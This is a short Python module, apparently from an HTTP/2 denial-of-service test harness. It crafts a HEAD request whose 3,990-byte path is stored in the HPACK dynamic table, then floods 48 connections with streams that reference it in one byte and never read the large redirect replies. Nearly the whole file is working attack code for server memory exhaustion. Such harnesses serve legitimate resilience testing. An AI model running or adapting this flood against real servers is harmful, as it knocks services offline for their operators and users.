"""Requests for a head of 4 KB each, on HTTP/2 connections that read nothing: a redirect repeats
the path, which HPACK's table makes one byte."""

import frames
from attack import Attack

ATTACK = Attack(configurations=("redirects",), short=("10Mi", "32Mi"))
CONNECTIONS, STREAMS = 48, 100


async def run(target):
    # 62 is the newest entry of the table, 4,032 bytes of its 4,096.
    path = b"/" + b"q" * 3990
    first = frames.request(1, b"\x42" + frames.string(b"HEAD") + b"\x87\x01" + frames.string(b"localhost")
                           + b"\x44" + frames.string(path))
    # Only the path stays in the table.
    again = b"\x02" + frames.string(b"HEAD") + b"\x87\x01" + frames.string(b"localhost") + b"\xbe"

    def batches():
        for begin in range(3, 1 << 22, 2 * STREAMS):
            yield b"".join(frames.request(stream, again) for stream in range(begin, begin + 2 * STREAMS, 2))

    return await target.flood(CONNECTIONS, frames.opening() + first, batches, reads=False)
